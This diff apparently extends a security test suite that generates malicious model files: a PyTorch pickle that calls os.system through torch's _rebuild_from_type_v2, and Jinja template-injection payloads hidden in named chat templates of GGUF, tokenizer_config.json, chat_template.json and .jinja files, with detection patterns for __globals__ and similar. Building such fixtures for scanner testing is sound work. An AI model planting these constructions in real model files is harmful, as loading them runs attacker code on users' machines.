@@ -1227,6 +1227,85 @@ def _b11(p: Path) -> None:
     _torch_save(Reduce(run_command, ["touch", MARK]), p)
 
 
+@fixture(
+    "t07_torch_rebuild_from_type_calls.pt",
+    "pytorch-zip",
+    "the allowed torch._tensor._rebuild_from_type_v2(func, type, args, state) calls func(*args): here posix.system",
+    "fickling ml.py (notes _rebuild_from_type_v2 calls its first argument)",
+    "posix.system",
+    LOAD_TORCH,
+    "fixturegen",
+)
+def _t07(p: Path) -> None:
+    import torch
+
+    _torch_save(Reduce(torch._tensor._rebuild_from_type_v2, os.system, torch.Tensor, (SH,), {}), p)
+
+
+@fixture(
+    "j05_gguf_named_template.gguf",
+    "gguf",
+    "benign tokenizer.chat_template, payload in the named template tokenizer.chat_template.tool_use",
+    "GGUF named chat templates (tokenizer.chat_template.<name>, read by llama.cpp); CVE-2024-34359 class",
+    "__subclasses__|__builtins__|__import__|__globals__",
+    LOAD_GGUF.replace("'tokenizer.chat_template'", "'tokenizer.chat_template.tool_use'"),
+)
+def _j05(p: Path) -> None:
+    import gguf
+    import numpy as np
+
+    w = gguf.GGUFWriter(str(p), "llama")
+    w.add_chat_template("{% for m in messages %}{{ m['content'] }}{% endfor %}")
+    w.add_string("tokenizer.chat_template.tool_use", J_SUBSCRIPT)
+    w.add_tensor("tok_embd.weight", np.zeros((2, 2), dtype=np.float32))
+    w.write_header_to_file()
+    w.write_kv_data_to_file()
+    w.write_tensors_to_file()
+    w.close()
+
+
+@fixture(
+    "j06_tokenizer_config_template_list/tokenizer_config.json",
+    "tokenizer-config",
+    "tokenizer_config.json chat_template as a list of named templates: the payload is the 'tool_use' one",
+    "transformers named chat templates (list form); CVE-2024-34359 class",
+    "__globals__",
+    "import json, sys\nts = json.load(open(sys.argv[1]))['chat_template']\n"
+    "t = [x['template'] for x in ts if x['name'] == 'tool_use'][0]\n" + RENDER,
+)
+def _j06() -> bytes:
+    import json
+
+    templates = [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": J_SUBSCRIPT}]
+    return json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": templates}).encode()
+
+
+@fixture(
+    "j07_processor/chat_template.json",
+    "chat-template",
+    "chat_template.json (a processor's template file) holding the payload",
+    "transformers processors save chat_template.json; CVE-2024-34359 class",
+    "__globals__",
+    LOAD_TOKCONFIG,
+)
+def _j07() -> bytes:
+    import json
+
+    return json.dumps({"chat_template": J_SUBSCRIPT}).encode()
+
+
+@fixture(
+    "j08_additional/additional_chat_templates/tool_use.jinja",
+    "chat-template",
+    "additional_chat_templates/tool_use.jinja (extra named templates saved beside the tokenizer)",
+    "transformers additional_chat_templates/ folder; CVE-2024-34359 class",
+    "__globals__",
+    LOAD_TEXT,
+)
+def _j08() -> bytes:
+    return J_SUBSCRIPT.encode()
+
+
 # --- proof ---------------------------------------------------------------------------------------
 def prove(fx: Fixture, python: Path) -> tuple[bool, str]:
     """Build fx in a fresh directory and load it there in a subprocess; proven when the marker appears."""
